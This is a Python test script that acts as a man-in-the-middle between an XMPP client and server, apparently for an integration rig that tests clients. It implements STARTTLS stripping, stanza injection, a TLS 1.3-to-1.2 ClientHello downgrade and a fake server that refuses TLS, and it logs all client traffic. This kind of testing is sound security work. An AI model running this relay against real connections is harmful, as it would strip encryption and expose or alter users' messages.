#!/usr/bin/python3
"""mitm.py: an on-path attacker between an XMPP initiator and a server.

Part of portcullis's integration rig.  Listens on ADDR:PORT, connects
each client to TARGET_ADDR:TARGET_PORT and relays bytes, but before TLS:

  pass    relays everything as is (an honest path, for a first contact);
  strip   removes <starttls/> from the server's <stream:features/>, then
          relays everything as is (a client that asks anyway gets TLS
          end to end through us);
  inject  relays as is, but appends a plaintext stanza to the server's
          <proceed/>, where only the client's ClientHello may follow;
  downgrade
          relays as is, but rewrites the client's ClientHello so that
          its supported_versions extension offers TLS 1.2 where it
          offered 1.3 (same length): a server able to do 1.3 answers 1.2
          with the RFC 8446 downgrade sentinel in its random;
  fail    plays the server itself (TARGET is ignored): answers the
          client's header with one of its own and features without
          <starttls/>, answers <starttls/> with <failure/>, and keeps the
          connection open, recording whatever the client sends next: a
          client that falls back to plaintext shows here.

Everything each client sent is appended to OUT (one file, all clients).

Usage: mitm.py MODE ADDR PORT TARGET_ADDR TARGET_PORT OUT
"""

import re
import selectors
import socket
import sys

STARTTLS = re.compile(rb"<starttls[^>]*?(/>|>.*?</starttls>)", re.S)
FAILURE = b"<failure xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"
PROCEED = re.compile(rb"<proceed[^>]*?(/>|>\s*</proceed>)", re.S)
INJECTED = b"<message to='admin@example' type='chat'><body>INJECTED" \
    b"</body></message>"


def tls_record(buf):
    """The length of the first whole TLS record in buf, or 0."""
    if len(buf) < 5:
        return 0
    n = 5 + int.from_bytes(buf[3:5], "big")
    return n if len(buf) >= n else 0


def downgrade_hello(rec):
    """A ClientHello record whose supported_versions say 1.2 for 1.3."""
    b = bytearray(rec)
    if b[0] != 0x16 or b[5] != 1:
        return rec
    p = 5 + 4 + 2 + 32                  # headers, version, random
    p += 1 + b[p]                       # session id
    p += 2 + int.from_bytes(b[p:p + 2], "big")      # cipher suites
    p += 1 + b[p]                       # compression methods
    end = p + 2 + int.from_bytes(b[p:p + 2], "big")
    p += 2
    while p + 4 <= end:
        kind = int.from_bytes(b[p:p + 2], "big")
        n = int.from_bytes(b[p + 2:p + 4], "big")
        if kind == 0x2b:                # supported_versions
            for i in range(p + 5, p + 5 + b[p + 4], 2):
                if b[i:i + 2] == b"\x03\x04":
                    b[i:i + 2] = b"\x03\x03"
        p += 4 + n
    return bytes(b)


def fake_server(st, data):
    """Answer as a server that 'has no TLS', and refuse STARTTLS."""
    st["sbuf"] += data
    if not st.get("answered") and b"<stream:stream" in st["sbuf"] and \
            b">" in st["sbuf"].split(b"<stream:stream", 1)[1]:
        m = re.search(rb"to=['\"]([^'\"]+)", st["sbuf"])
        frm = m.group(1) if m else b""
        st["c"].sendall(b"<?xml version='1.0'?><stream:stream "
                        b"xmlns='jabber:server' xmlns:stream="
                        b"'http://etherx.jabber.org/streams' xmlns:db="
                        b"'jabber:server:dialback' id='mitm' from='" +
                        frm + b"' version='1.0'><stream:features><dialback "
                        b"xmlns='urn:xmpp:features:dialback'/>"
                        b"</stream:features>")
        st["answered"] = True
    if b"<starttls" in st["sbuf"] and not st.get("failed"):
        st["c"].sendall(FAILURE)
        st["failed"] = True


def main():
    mode, addr, port, taddr, tport, out = sys.argv[1:7]
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    srv = socket.socket(fam, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, int(port)))
    srv.listen(16)
    log = open(out, "ab", buffering=0)
    sel = selectors.DefaultSelector()
    sel.register(srv, selectors.EVENT_READ, None)
    conns = {}          # socket -> state dict shared by the pair
    while True:
        for key, _ in sel.select():
            if key.data is None:
                c, _ = srv.accept()
                if mode == "fail":
                    st = {"c": c, "s": None, "tls": False, "sbuf": b""}
                    conns[c] = st
                    sel.register(c, selectors.EVENT_READ, "c")
                    continue
                try:
                    s = socket.create_connection((taddr, int(tport)), 10)
                except OSError:
                    c.close()
                    continue
                st = {"c": c, "s": s, "tls": False, "sbuf": b""}
                conns[c] = conns[s] = st
                sel.register(c, selectors.EVENT_READ, "c")
                sel.register(s, selectors.EVENT_READ, "s")
                continue
            sock = key.fileobj
            st = conns.get(sock)
            if st is None:
                continue
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                for x in (st["c"], st["s"]):
                    if x is None:
                        continue
                    if x in conns:
                        sel.unregister(x)
                        del conns[x]
                        x.close()
                continue
            if key.data == "c":
                log.write(data)
                if mode == "fail":
                    fake_server(st, data)
                    continue
                if st.get("hello") is not None:
                    # Hold the ClientHello until its record is whole.
                    st["hello"] += data
                    n = tls_record(st["hello"])
                    if n == 0:
                        continue
                    data = downgrade_hello(st["hello"][:n]) + \
                        st["hello"][n:]
                    st["hello"] = None
                elif not st["tls"] and b"<starttls" in data:
                    st["tls"] = True    # TLS from here on: hands off
                    if mode == "inject":
                        st["proceed"] = b""
                    if mode == "downgrade":
                        st["hello"] = b""
                st["s"].sendall(data)
            else:
                if st.get("proceed") is not None:
                    st["proceed"] += data
                    m = PROCEED.search(st["proceed"])
                    if m is None:
                        continue
                    data = st["proceed"][:m.end()] + INJECTED + \
                        st["proceed"][m.end():]
                    st["proceed"] = None
                elif not st["tls"] and mode == "strip":
                    st["sbuf"] += data
                    # Hold partial features so the tag cannot slip past.
                    if b"<stream:features" in st["sbuf"] and \
                            b"</stream:features>" not in st["sbuf"]:
                        continue
                    data = STARTTLS.sub(b"", st["sbuf"])
                    st["sbuf"] = b""
                st["c"].sendall(data)


if __name__ == "__main__":
    main()
